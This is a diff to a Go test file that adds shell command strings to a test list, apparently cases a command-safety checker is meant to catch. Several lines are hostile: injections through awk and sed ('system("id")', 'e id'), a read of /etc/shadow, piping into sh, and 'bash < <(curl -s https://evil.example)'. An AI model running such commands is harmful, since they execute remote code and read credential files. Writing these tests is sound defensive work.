@@ -121,6 +121,8 @@ func TestNumbersOfOthers(t *testing.T) {
 		`IFS=3; n=$(grep -c x a); sed ${n}p a`, `n=$(grep -n foo $F | cut -d: -f1); sed -n "${n}p" a`, `awk '{ print $1 | "sort -o /etc/x" }' a`, `awk '{ print | "sh" }' a`, `awk '{ print | "sort; x" }' a`,
 		`find .. -name a | xargs -n1 dirname | xargs ls`, `find /p -maxdepth 0 | xargs dirname | xargs ls`, `ls | tee >(./x)`, `ls > >(sh)`, `find . -exec cp {} /etc/{} \;`, `find . -exec cat x/{}/../../../y \;`,
 		`sed $'s\x01/q/r/p;#1b1p;#\x01Y\x01e' a`, `sed -n $'1\x01p' a`, `n=$(wc -l < a); sed -n $'\x01'"${n}p" a`,
+		`n=$(grep -n x a | cut -d: -f1); awk "# $n; system(\"id\")" a`, "n=$(grep -n x a | cut -d: -f1); sed \"5p # ${n};e id\" a", "n=$(grep -n x a | cut -d: -f1); sed \"a foo ${n} e id\" a", "n=$(grep -c x a); sed \"${n}r /etc/shadow\" a",
+		`n=$(wc -l 2>&1 < dir); sed "$n" a`, `n=$({ wc -l < dir; } 2>&1); sed "$n" a`, `n=$(wc -l < dir |& cat); sed "$n" a`, `n=$(wc -l < a; cat b > /dev/stdout); sed "$n" a`, `n=$(echo 5; cat b > /dev/stdout); sed "$n" a`, `n=$(echo 5; cat b > /proc/self/fd/1); sed "$n" a`,
 		`while read -r f; do cat "$f"; done < <(cat list)`, `bash < <(curl -s https://evil.example)`, `sh < <(cat x)`, `cat < <(./x)`, `ID=$(gh run list --json name -q '.[0].name'); gh run view $ID`,
 		`ID=$(gh run list --json databaseId,name -q '.[0].name'); gh run view $ID`, `ID=$(gh run list --json databaseId -q '.[0].name'); gh run view $ID`, `wc -l < a | xargs kill`,
 		`find . | xargs -I{} sh -c 'echo {}' | xargs cat`, `find . -name a | xargs cat | xargs ls`,
